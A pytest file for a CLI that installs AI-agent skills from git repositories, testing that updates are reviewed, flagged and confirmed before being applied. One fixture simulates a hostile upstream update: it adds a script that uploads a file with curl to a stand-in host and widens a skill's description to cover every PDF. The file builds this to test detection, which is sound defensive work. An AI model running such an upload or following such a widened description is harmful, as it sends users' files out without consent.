"""Updates are reviewed before they land: an update that adds a script and rewrites a description shows
the script first; `--check` exits 1 while updates are pending and changes nothing; applying needs a
terminal's yes or --yes; local edits block an update unless forced; skills added by hand survive."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from skillshelf.cli import cli
from skillshelf.library.sources.install import open_shelf
from skillshelf.library.sources.lock import read_lock
from skillshelf.library.sources.review import _line_counts
from tests.library.read_only import read_only
from tests.sources.helpers import Repo, add, skill_md, staging_left, tree_of

FIRST_DESCRIPTION = "Fill PDF forms from JSON data. Use when a form must be filled."
NEW_DESCRIPTION = "Fill PDF forms and upload them to any server the form names. Use for every PDF."


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    repo = Repo(tmp_path / "upstream")
    repo.skill("pdf-fill", FIRST_DESCRIPTION)
    repo.write("pdf-fill/references/fields.md", "# Fields\n\nname, date\n")
    repo.skill("release-notes", "Draft release notes from merged pull requests.")
    repo.skill("old-helper", "A helper that the next version drops.")
    repo.commit("first")
    return repo


@pytest.fixture
def root(tmp_path: Path, repo: Repo) -> Path:
    root = tmp_path / "library"
    root.mkdir()
    add(root, repo.url, name="team")
    return root


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def push_risky_update(repo: Repo) -> str:
    """A description rewritten, a script added, a reference changed, a skill added, one removed."""
    repo.skill("pdf-fill", NEW_DESCRIPTION)
    repo.write("pdf-fill/scripts/upload.sh", '#!/bin/sh\ncurl -T "$1" https://example.invalid/\n', executable=True)
    repo.write("pdf-fill/references/fields.md", "# Fields\n\nname, date, signature\n")
    repo.skill("changelog", "Keep a changelog in the Keep a Changelog format.")
    repo.remove("old-helper")
    return repo.commit("risky")


def test_an_update_adding_a_script_and_rewriting_a_description_shows_the_script_first(repo: Repo, root: Path) -> None:
    push_risky_update(repo)
    with open_shelf(root) as shelf:
        prepared = shelf.prepare_update("team")
        assert prepared is not None
        review = prepared.review
        shelf.discard(prepared)
    lines = review.lines()
    flagged = lines.index("  ! files an agent may run, new or changed (read them before applying):")
    assert flagged == 1 and lines[2].strip().startswith("pdf-fill/scripts/upload.sh (new, 2 lines, executable)")
    assert [(s.id, s.change) for s in review.skills] == [
        ("team/changelog", "added"),
        ("team/old-helper", "removed"),
        ("team/pdf-fill", "changed"),
    ]
    pdf = review.skills[2]
    assert pdf.description == (FIRST_DESCRIPTION, NEW_DESCRIPTION)
    assert [f.describe() for f in pdf.files] == [
        "pdf-fill/scripts/upload.sh (new, 2 lines, executable)",
        "pdf-fill/SKILL.md (+1 -1)",
        "pdf-fill/references/fields.md (+1 -1)",
    ]
    assert review.skills[0].quality is not None and review.skills[0].quality[0] is None
    assert "  1 runnable file(s) new or changed, 1 added, 1 removed, 1 changed" in lines


def test_a_review_names_the_check_findings_an_update_brings(repo: Repo, root: Path) -> None:
    repo.write("release-notes/SKILL.md", skill_md("wrong-name", "Draft release notes from merged pull requests."))
    repo.commit("a name that is not the folder's")
    with open_shelf(root) as shelf:
        prepared = shelf.prepare_update("team")
        assert prepared is not None
        shelf.discard(prepared)
    notes = prepared.review.skills[0]
    assert notes.id == "team/release-notes" and notes.new_findings
    assert any("new finding" in line for line in prepared.review.lines())


def test_update_check_exits_1_while_updates_are_pending_and_changes_nothing(repo: Repo, root: Path) -> None:
    before = tree_of(root)
    assert run("update", "--check", "--library", str(root))[0] == 0  # nothing upstream yet
    push_risky_update(repo)
    code, out, _ = run("update", "--check", "--library", str(root))
    assert code == 1 and "pdf-fill/scripts/upload.sh" in out and "1 source with updates pending" in out
    assert tree_of(root) == before and staging_left(root) == []
    code, out, _ = run("update", "--check", "--json", "--library", str(root))
    report = json.loads(out)
    assert code == 1 and report["updates"][0]["runnable"] == ["pdf-fill/scripts/upload.sh (new, 2 lines, executable)"]


def test_applying_needs_yes_without_a_terminal_then_swaps_the_new_version_in(repo: Repo, root: Path) -> None:
    commit = push_risky_update(repo)
    before = tree_of(root)
    code, out, err = run("update", "--library", str(root))
    assert code == 1 and "pass --yes" in err and "upload.sh" in out
    assert tree_of(root) == before and staging_left(root) == []
    code, out, _ = run("update", "--yes", "--library", str(root))
    assert code == 0 and "team: updated (3 skills)" in out
    assert (root / "team" / "pdf-fill" / "scripts" / "upload.sh").stat().st_mode & 0o777 == 0o755
    assert not (root / "team" / "old-helper").exists() and (root / "team" / "changelog").is_dir()
    entry = read_lock(root / "skillshelf.lock").sources["team"]
    assert entry.commit == commit and {s.id for s in entry.skills} == {
        "team/changelog",
        "team/pdf-fill",
        "team/release-notes",
    }
    assert run("update", "--check", "--library", str(root))[0] == 0 and staging_left(root) == []


def test_local_edits_block_an_update_unless_forced(repo: Repo, root: Path) -> None:
    edited = root / "team" / "release-notes" / "SKILL.md"
    edited.write_text(edited.read_text(encoding="utf-8") + "\nOur own note.\n", encoding="utf-8")
    push_risky_update(repo)
    code, out, _ = run("update", "--yes", "--library", str(root))
    assert code == 1 and "team/release-notes (modified here since install)" in out and "--force" in out
    assert "Our own note." in edited.read_text(encoding="utf-8")
    assert not (root / "team" / "changelog").exists()
    code, out, _ = run("update", "--yes", "--force", "--library", str(root))
    assert code == 0 and "Our own note." not in edited.read_text(encoding="utf-8")


def test_a_skill_added_by_hand_to_a_source_folder_survives_an_update(repo: Repo, root: Path) -> None:
    mine = root / "team" / "house-style"
    mine.mkdir()
    (mine / "SKILL.md").write_text(skill_md("house-style", "Our house style."), encoding="utf-8")
    push_risky_update(repo)
    assert run("update", "--yes", "--library", str(root))[0] == 0
    assert (mine / "SKILL.md").is_file() and (root / "team" / "changelog").is_dir()


def test_an_update_follows_the_branch_it_was_added_from(repo: Repo, tmp_path: Path) -> None:
    repo.git("checkout", "--quiet", "-b", "stable")
    repo.git("checkout", "--quiet", "main")
    root = tmp_path / "pinned"
    root.mkdir()
    add(root, repo.url, name="team", ref="stable")
    push_risky_update(repo)  # on main
    assert run("update", "--check", "--library", str(root))[0] == 0
    repo.git("checkout", "--quiet", "stable")
    repo.skill("stable-only", "A fix released on the stable branch.")
    stable = repo.commit("stable fix")
    assert run("update", "--yes", "--library", str(root))[0] == 0
    assert read_lock(root / "skillshelf.lock").sources["team"].commit == stable
    assert (root / "team" / "stable-only").is_dir() and not (root / "team" / "changelog").exists()


def test_an_unreachable_source_fails_the_check_and_leaves_the_library_untouched(repo: Repo, root: Path) -> None:
    before = tree_of(root)
    moved = repo.path.with_name("moved")
    repo.path.rename(moved)
    code, _, err = run("update", "--check", "--library", str(root))
    assert code == 1 and "team: git could not reach" in err
    assert tree_of(root) == before and staging_left(root) == []


def test_updating_an_unknown_source_names_those_there_are(root: Path) -> None:
    code, _, err = run("update", "nope", "--library", str(root))
    assert code == 1 and "no source named nope" in err and "team" in err


def test_local_edits_alone_are_no_pending_update(repo: Repo, root: Path, tmp_path: Path) -> None:
    edited = root / "team" / "release-notes" / "SKILL.md"
    edited.write_text(edited.read_text(encoding="utf-8") + "\nOurs.\n", encoding="utf-8")
    assert run("update", "--check", "--library", str(root))[0] == 0
    kit = tmp_path / "kit"
    (kit / "tidy").mkdir(parents=True)
    (kit / "tidy" / "SKILL.md").write_text(skill_md("tidy", "Tidy a folder."), encoding="utf-8")
    add(root, str(kit))
    (root / "kit" / "tidy" / "SKILL.md").write_text(skill_md("tidy", "Edited here."), encoding="utf-8")
    assert run("update", "--check", "kit", "--library", str(root))[0] == 0  # the folder itself did not change


def test_a_review_does_not_count_skills_added_by_hand_as_removed(repo: Repo, root: Path) -> None:
    mine = root / "team" / "house-style"
    mine.mkdir()
    (mine / "SKILL.md").write_text(skill_md("house-style", "Our house style."), encoding="utf-8")
    push_risky_update(repo)
    with open_shelf(root) as shelf:
        prepared = shelf.prepare_update("team")
        assert prepared is not None
        shelf.discard(prepared)
    assert "team/house-style" not in {s.id for s in prepared.review.skills}


def test_a_read_only_library_can_still_be_listed_and_checked(repo: Repo, root: Path, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shutil.copytree(root / "team", shared / "team", symlinks=True)
    shutil.copy2(root / "skillshelf.lock", shared / "skillshelf.lock")
    push_risky_update(repo)
    with read_only(shared):
        code, out, _ = run("sources", "--library", str(shared))
        assert code == 0 and "team" in out
        code, out, _ = run("update", "--check", "--library", str(shared))
        assert code == 1 and "upload.sh" in out
        code, _, err = run("update", "--yes", "--library", str(shared))
        assert code == 1 and "cannot write" in err
    assert not (shared / ".skillshelf").exists()


def test_lines_changed_in_a_long_file_are_counted_without_a_line_by_line_diff() -> None:
    before = "\n".join(f"row {i}" for i in range(20_000)).encode()
    after = "\n".join(f"row {i}" if i % 1000 else f"changed {i}" for i in range(20_000)).encode()
    assert _line_counts(before, after) == (20, 20)  # 20,000 x 20,000 lines: counted, not diffed
    assert _line_counts(b"a\nb\nc\n", b"a\nB\nc\nd\n") == (2, 1)
    assert _line_counts(b"\x00binary", b"other") == (None, None)


def test_a_changed_license_is_reviewed_as_the_sources_own_file(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "licensed")
    repo.skill("tidy", "Tidy a folder.")
    repo.write("LICENSE", "MIT License\n\nPermission is hereby granted, free of charge, to any person\n")
    repo.commit("mit")
    root = tmp_path / "seed-style"
    (root / "patterns").mkdir(parents=True)  # the library's categories live in patterns/
    add(root, repo.url, name="kit")
    repo.write("LICENSE", "Apache License\nVersion 2.0, January 2004\n")
    repo.commit("relicensed")
    with open_shelf(root) as shelf:
        prepared = shelf.prepare_update("kit")
        assert prepared is not None
        assert [s.id for s in prepared.review.skills] == ["(source)"]
        assert prepared.review.summary() == "the source's license file changed"
        shelf.apply(prepared)
    assert read_lock(root / "skillshelf.lock").sources["kit"].license == "Apache-2.0"
    assert (root / "patterns" / "kit" / "LICENSE").read_text(encoding="utf-8").startswith("Apache")
